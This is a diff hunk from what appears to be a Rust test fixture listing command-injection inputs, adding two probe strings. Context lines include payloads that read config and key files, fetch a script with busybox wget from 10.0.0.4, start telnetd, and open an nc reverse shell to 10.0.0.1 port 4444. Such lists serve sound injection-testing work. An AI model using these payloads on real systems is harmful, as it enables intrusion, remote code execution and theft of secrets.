@@ -63,6 +63,8 @@ fn commands() {
         "report for may; sort /srv/app/config.yml",
         "report for may; cut -c1-80 ~/keys",
         "localhost; id #",
+        "/index.html|id|",
+        "& echo vulnerable",
         "eth0`busybox wget http://10.0.0.4/m.sh`",
         "x|busybox${IFS}telnetd",
         "x; nohup nc 10.0.0.1 4444 -e sh",
